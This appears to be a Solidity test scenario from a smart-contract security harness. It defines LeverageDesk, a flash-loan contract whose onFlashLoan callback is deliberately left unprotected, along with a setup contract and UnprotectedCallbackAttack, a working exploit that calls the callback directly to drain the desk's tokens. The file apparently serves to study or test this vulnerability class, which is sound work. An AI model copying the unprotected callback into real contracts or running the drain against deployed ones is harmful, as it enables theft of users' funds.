// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./Common.sol";

/// Leverages for its users with flash loans; whoever calls it back is taken for the lender, and what he says for the order.
contract LeverageDesk {
    IERC20 public immutable usd;
    Bank public immutable bank;
    mapping(address => uint256) public balanceOf;

    event Deposit(address indexed who, uint256 amount);
    event Withdraw(address indexed who, uint256 amount);

    constructor(IERC20 usd_, Bank bank_) {
        (usd, bank) = (usd_, bank_);
    }

    function deposit(uint256 amount) external {
        usd.transferFrom(msg.sender, address(this), amount);
        balanceOf[msg.sender] += amount;
        emit Deposit(msg.sender, amount);
    }

    function withdraw(uint256 amount) external {
        balanceOf[msg.sender] -= amount;
        usd.transfer(msg.sender, amount);
        emit Withdraw(msg.sender, amount);
    }

    /// Borrows and pays back at once: a stand-in for a swap in between.
    function lever(uint256 amount) external {
        bank.flashLoan(usd, amount, abi.encode(address(bank)));
    }

    function onFlashLoan(address, address, uint256 amount, uint256, bytes calldata data) external returns (bytes32) {
        usd.transfer(abi.decode(data, (address)), amount);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}

contract UnprotectedCallbackScene is Scene {
    Token public usd;
    LeverageDesk public desk;

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        usd = _usd();
        desk = new LeverageDesk(IERC20(address(usd)), b);
        usd.mint(address(desk), 2_200_000e18);
        usd.mint(address(b), 5_000_000e18);
        _protect(address(desk));
        loot0 = IERC20(address(usd));
    }

    function enrol(address[] calldata users) external override {
        _arm(usd, users, 1_000_000e18, address(desk));
    }

    function menu(address who, uint256 dice) external view override returns (address, uint256, bytes memory) {
        uint256 kind = (dice >> 200) % 5;
        uint256 held = desk.balanceOf(who);
        if (kind == 0) return (address(desk), 0, abi.encodeCall(LeverageDesk.lever, (_amount(dice, 100e18, 500_000e18))));
        if (kind < 3 && held > 0) return (address(desk), 0, abi.encodeCall(LeverageDesk.withdraw, (held)));
        return (address(desk), 0, abi.encodeCall(LeverageDesk.deposit, (_amount(dice, 100e18, 20_000e18))));
    }
}

contract UnprotectedCallbackAttack is Attack {
    LeverageDesk private immutable desk;

    constructor(UnprotectedCallbackScene scene) Attack(scene) {
        desk = scene.desk();
    }

    function _act(uint256, uint256 index, uint256 count) internal override {
        uint256 bite = loot0.balanceOf(address(desk)) / (count - index);
        desk.onFlashLoan(address(this), address(loot0), bite, 0, abi.encode(address(this)));
    }
}
